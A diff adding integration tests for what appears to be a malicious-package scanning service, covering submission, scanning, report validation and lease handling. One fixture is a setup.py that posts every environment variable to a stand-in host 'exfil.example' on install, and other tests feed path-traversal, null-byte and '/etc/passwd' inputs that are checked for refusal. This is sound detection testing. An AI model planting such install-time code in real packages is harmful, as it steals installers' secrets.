@@ -1,0 +1,144 @@
+"""From a purl to a stored report, with the real scanner in a child process and an index on loopback."""
+
+from __future__ import annotations
+
+import datetime
+import json
+
+import pytest
+from django.utils import timezone
+
+from packamal.errors import NotFoundError, TargetError
+from packamal.executors.base import Ending, Outcome
+from packamal.server.accounts.models import AuditEvent
+from packamal.server.analyses import transitions
+from packamal.server.analyses.claims import Asker
+from packamal.server.analyses.models import Analysis
+from packamal.server.analyses.states import Lane, State
+from packamal.server.pipeline import parts
+from packamal.server.pipeline.reconcile import reconcile
+from packamal.server.pipeline.run import run_next
+from packamal.server.pipeline.settle import settle
+from packamal.server.pipeline.submit import submit
+
+pytestmark = [pytest.mark.django_db, pytest.mark.allow_hosts(["127.0.0.1"])]
+STEALS = """
+import os, urllib.request
+from setuptools import setup
+urllib.request.urlopen("https://exfil.example/", data=repr(dict(os.environ)).encode())
+setup()
+"""
+
+
+@pytest.fixture
+def queued(index):
+    return submit(index.add("small", "1.0"), Asker(), Lane.INTERACTIVE).analysis
+
+
+@pytest.fixture
+def lease(queued):
+    return transitions.start(queued.pk, "w", 10)
+
+
+def test_a_package_becomes_a_stored_report(index):
+    analysis = submit(index.add("greedy", "1.0", STEALS), Asker(), Lane.INTERACTIVE).analysis
+    assert run_next("worker")
+    analysis.refresh_from_db()
+    assert analysis.state == State.DONE, (analysis.error, analysis.attempts.get().detail)
+    assert analysis.level in ("suspicious", "malicious")
+    report = json.loads(parts.store().get(analysis.report_id))
+    assert report["purl"] == "pkg:pypi/greedy@1.0"
+    assert analysis.rules.count() >= 1
+    assert any("exfil" in value for value in analysis.indicators.values_list("value", flat=True))
+    assert analysis.artifacts.get().filename == "greedy-1.0.tar.gz"
+    assert not run_next("worker")
+
+
+def test_no_version_means_the_newest_and_the_exact_one_is_kept(index):
+    index.add("small", "1.0")
+    index.add("small", "2.0")
+    analysis = submit("pkg:pypi/Small", Asker(), Lane.BULK).analysis
+    assert (analysis.requested, analysis.purl) == ("pkg:pypi/small", "pkg:pypi/small@2.0")
+    assert submit("pkg:pypi/small@2.0", Asker(), Lane.BULK).analysis.pk == analysis.pk
+    assert AuditEvent.objects.count() == 1
+
+
+def test_other_bytes_under_the_same_version_are_another_question(index):
+    first = submit(index.add("small", "1.0"), Asker(), Lane.BULK).analysis
+    second = submit(index.add("small", "1.0", "# changed\n"), Asker(), Lane.BULK).analysis
+    assert first.pk != second.pk
+
+
+@pytest.mark.parametrize("text", ["", "/etc/passwd", ".", "small", "pkg:pypi/..%2Fx", "pkg:gem/x@1", "pkg:npm/a%00b"])
+def test_what_is_no_package_is_refused_before_anything_is_asked(index, text):
+    with pytest.raises(TargetError):
+        submit(text, Asker(), Lane.BULK)
+    assert index.asked == []
+
+
+def test_a_package_that_is_not_there_leaves_no_row(index):
+    with pytest.raises(NotFoundError):
+        submit("pkg:pypi/nothing@1", Asker(), Lane.BULK)
+    assert Analysis.objects.count() == 0
+
+
+@pytest.mark.parametrize("ending", [ending for ending in Ending if ending not in (Ending.REPORTED, Ending.STOPPED)])
+def test_every_other_ending_ends_the_attempt(queued, lease, ending, tmp_path):
+    assert settle(lease, Outcome(ending, detail="why"), parts.store())
+    queued.refresh_from_db()
+    assert queued.state == (State.QUEUED if ending is Ending.LOST else State.FAILED)
+    assert queued.attempts.get().detail == "why"
+    assert queued.level == ""
+
+
+REPORT = {
+    "target": "x", "purl": "pkg:pypi/small@1.0", "verdict": {"level": "clean", "score": 0},
+    "artifacts": [{"purl": "pkg:pypi/small@1.0", "filename": "f", "sha256": "a" * 64, "size_bytes": 1}],
+    "schema_version": "1.0",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"", b"null", b"{", b"[" * 100_000, json.dumps({**REPORT, "purl": "pkg:pypi/other@1.0"}).encode(),
+        json.dumps({**REPORT, "more": 1}).encode(), json.dumps({**REPORT, "findings": None}).encode(),
+        json.dumps({**REPORT, "verdict": {"level": "clean", "score": 101}}).encode(),
+    ],
+)  # fmt: skip
+def test_what_is_no_report_on_this_package_is_not_taken(queued, lease, content):
+    assert settle(lease, Outcome(Ending.REPORTED, content), parts.store())
+    queued.refresh_from_db()
+    assert (queued.state, queued.error_category, queued.report) == (State.FAILED, "result_invalid", None)
+
+
+def test_a_report_that_judged_nothing_never_reads_as_an_answer(queued, lease):
+    content = json.dumps({**REPORT, "artifacts": []}).encode()
+    assert settle(lease, Outcome(Ending.REPORTED, content), parts.store())
+    queued.refresh_from_db()
+    assert (queued.state, queued.level) == (State.QUEUED, "")
+
+
+def test_a_result_that_comes_twice_is_taken_once(queued, lease):
+    outcome = Outcome(Ending.REPORTED, json.dumps(REPORT).encode())
+    assert settle(lease, outcome, parts.store())
+    assert not settle(lease, outcome, parts.store())
+
+
+def test_what_nobody_ends_is_ended(queued, lease):
+    rung = []
+    assert reconcile(rung.append).lost == 0
+    Analysis.objects.filter(pk=queued.pk).update(lease_until=timezone.now() - datetime.timedelta(seconds=1))
+    assert reconcile(rung.append).lost == 1
+    queued.refresh_from_db()
+    assert queued.state == State.QUEUED
+    Analysis.objects.filter(pk=queued.pk).update(available_at=timezone.now())
+    assert reconcile(rung.append).rung == 1
+    assert rung == [Lane.INTERACTIVE]
+
+
+def test_what_takes_too_long_is_over(queued, lease):
+    Analysis.objects.filter(pk=queued.pk).update(deadline_at=timezone.now() - datetime.timedelta(seconds=1))
+    assert reconcile(lambda lane: None).timed_out == 1
+    queued.refresh_from_db()
+    assert (queued.state, queued.error_category) == (State.FAILED, "timeout")
